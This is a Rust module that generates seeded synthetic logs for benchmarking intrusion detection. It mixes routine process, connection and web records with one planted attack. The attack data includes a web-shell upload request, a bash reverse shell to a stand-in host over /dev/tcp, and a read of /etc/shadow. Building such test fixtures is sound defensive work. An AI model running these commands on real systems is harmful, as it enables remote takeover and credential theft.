//! Generates logs of any size for benchmarks, the same for the same seed. A few records show an intrusion; the
//! others are the noise of a busy network.

use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::Path;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

pub mod mixed;
pub mod rules;

pub const ALERT: &str = r#"{"id":"generated-1","rule":{"title":"Shell started by web server","level":"high"},"event_time":"2026-01-15T12:00:00Z","host":"web-017","user":"www-data","source_ip":"203.0.113.77","description":"apache2 started /bin/sh on web-017"}"#;

struct Logs {
    process: BufWriter<File>,
    network: BufWriter<File>,
    web: BufWriter<File>,
}

/// Writes about `bytes` of logs: process starts, connections and web requests of one day.
pub fn write(folder: &Path, bytes: u64, seed: u64) -> io::Result<()> {
    std::fs::create_dir_all(folder)?;
    let mut dice = ChaCha8Rng::seed_from_u64(seed);
    let file = |name: &str| File::create(folder.join(name)).map(BufWriter::new);
    let mut logs = Logs { process: file("process.ndjson")?, network: file("conn.ndjson")?, web: file("access.log")? };
    // Three records of 200 to 330 bytes make about 760 bytes per step.
    let steps = (bytes / 760).max(200);
    for step in 0..steps {
        noise(&mut dice, step * 86_400_000 / steps, &mut logs)?;
        if step == steps / 2 {
            intrusion(&mut logs)?;
        }
    }
    logs.process.flush()?;
    logs.network.flush()?;
    logs.web.flush()
}

/// A folder with `alert.json` and about 200 kB of logs in `evidence`.
pub fn case() -> io::Result<tempfile::TempDir> {
    let folder = tempfile::tempdir()?;
    write(&folder.path().join("evidence"), 200_000, 3)?;
    std::fs::write(folder.path().join("alert.json"), ALERT)?;
    Ok(folder)
}

fn clock(ms: u64) -> String {
    let (s, ms) = (ms / 1000, ms % 1000);
    format!("2026-01-15T{:02}:{:02}:{:02}.{ms:03}Z", s / 3600 % 24, s / 60 % 60, s % 60)
}

fn noise(dice: &mut ChaCha8Rng, ms: u64, logs: &mut Logs) -> io::Result<()> {
    const COMMANDS: [&str; 6] = [
        "/usr/sbin/logrotate /etc/logrotate.conf",
        "/usr/bin/python3 /opt/app/worker.py --queue mail",
        "/usr/bin/find /var/cache -mtime +7",
        "ps aux",
        "/usr/lib/apt/apt.systemd.daily update",
        "/usr/bin/git fetch --all",
    ];
    const PAGES: [&str; 5] = ["/", "/login", "/static/app.js", "/api/v1/items", "/health"];
    let mut below = |end: u64| dice.random_range(0..end);
    let [command, page] = [&COMMANDS[..], &PAGES].map(|all| all.get(below(all.len() as u64) as usize).copied());
    let (command, page) = (command.unwrap_or("true"), page.unwrap_or("/"));
    writeln!(
        logs.process,
        r#"{{"time":"{}","event":"process_start","host":"web-{:03}","pid":{},"ppid":{},"user":"svc{}","exe":"{}","command_line":"{command}","parent_exe":"/usr/sbin/cron","session":"{:016x}"}}"#,
        clock(ms),
        below(40),
        1000 + below(60_000),
        1 + below(900),
        below(30),
        command.split(' ').next().unwrap_or(""),
        below(u64::MAX)
    )?;
    let s = ms / 1000;
    writeln!(
        logs.network,
        r#"{{"ts":{}.{:03},"uid":"C{:015x}","id.orig_h":"10.0.{}.{}","id.orig_p":{},"id.resp_h":"10.1.{}.{}","id.resp_p":{},"proto":"tcp","duration":{}.{:03},"orig_bytes":{},"resp_bytes":{},"conn_state":"SF"}}"#,
        1_768_435_200 + s,
        ms % 1000,
        below(u64::MAX),
        below(8),
        below(250),
        1024 + below(60_000),
        below(4),
        below(250),
        [80, 443, 5432, 53].get(below(4) as usize).copied().unwrap_or(80),
        below(60),
        below(1000),
        below(90_000),
        below(900_000)
    )?;
    writeln!(
        logs.web,
        r#"198.51.100.{} - - [15/Jan/2026:{:02}:{:02}:{:02} +0000] "GET {page}?r={:x} HTTP/1.1" 200 {} "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/{}.0 Safari/537.36""#,
        below(250),
        s / 3600 % 24,
        s / 60 % 60,
        s % 60,
        below(u64::MAX),
        below(90_000),
        100 + below(40)
    )
}

fn intrusion(logs: &mut Logs) -> io::Result<()> {
    writeln!(
        logs.web,
        r#"203.0.113.77 - - [15/Jan/2026:11:59:58 +0000] "POST /upload.php?cmd=/bin/sh+-c+id HTTP/1.1" 200 512 "-" "curl/8.5.0""#
    )?;
    for (ms, pid, ppid, exe, command, parent) in [
        (
            43_200_000,
            70_001,
            812,
            "/bin/sh",
            "/bin/sh -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
            "/usr/sbin/apache2",
        ),
        (43_200_040, 70_002, 70_001, "/bin/bash", "bash -i", "/bin/sh"),
        (43_207_000, 70_003, 70_002, "/usr/bin/whoami", "whoami", "/bin/bash"),
        (43_215_000, 70_004, 70_002, "/bin/cat", "cat /etc/shadow", "/bin/bash"),
    ] {
        writeln!(
            logs.process,
            r#"{{"time":"{}","event":"process_start","host":"web-017","pid":{pid},"ppid":{ppid},"user":"www-data","exe":"{exe}","command_line":"{command}","parent_exe":"{parent}","session":"-"}}"#,
            clock(ms)
        )?;
    }
    writeln!(
        logs.network,
        r#"{{"ts":1768478400.110,"uid":"CdeadbeefCafe01","id.orig_h":"10.0.3.17","id.orig_p":51544,"id.resp_h":"203.0.113.77","id.resp_p":4444,"proto":"tcp","duration":95.2,"orig_bytes":9211,"resp_bytes":1522,"conn_state":"SF"}}"#
    )
}
